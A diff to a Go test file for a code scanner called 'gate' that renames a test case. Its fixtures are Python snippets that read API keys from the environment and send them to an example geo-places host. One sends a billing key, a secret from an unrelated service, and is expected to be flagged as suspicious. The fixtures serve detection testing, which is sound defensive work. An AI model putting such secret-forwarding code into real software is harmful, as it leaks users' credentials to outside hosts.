@@ -12,9 +12,9 @@ func TestANewClientHasAKeyThatIsCalledAfterItsService(t *testing.T) {
 		text string
 		want gate.Severity
 	}{
-		"a question, with its key":             {ask, gate.SeverityUnknown},
-		"a question, with the key of somebody": {"import os, requests\nKEY = os.environ[\"BILLING_API_KEY\"]\ndef find(q):\n    return requests.get(\"https://api.geo-places.example/v2\", params={\"q\": q, \"k\": KEY}).json()\n", gate.SeveritySuspicious},
-		"something is posted, with its key":    {"import os, requests\nKEY = os.environ[\"GEO_API_KEY\"]\ndef find(q):\n    return requests.post(\"https://api.geo-places.example/v2\", json={\"q\": q, \"k\": KEY}).json()\n", gate.SeveritySuspicious},
+		"a question, with its key":          {ask, gate.SeverityUnknown},
+		"a question, with a user's key":     {"import os, requests\nKEY = os.environ[\"BILLING_API_KEY\"]\ndef find(q):\n    return requests.get(\"https://api.geo-places.example/v2\", params={\"q\": q, \"k\": KEY}).json()\n", gate.SeveritySuspicious},
+		"something is posted, with its key": {"import os, requests\nKEY = os.environ[\"GEO_API_KEY\"]\ndef find(q):\n    return requests.post(\"https://api.geo-places.example/v2\", json={\"q\": q, \"k\": KEY}).json()\n", gate.SeveritySuspicious},
 	} {
 		var worst gate.Severity
 		for _, f := range deciding(t, map[string]string{"geo.py": tt.text})["geo.py"] {
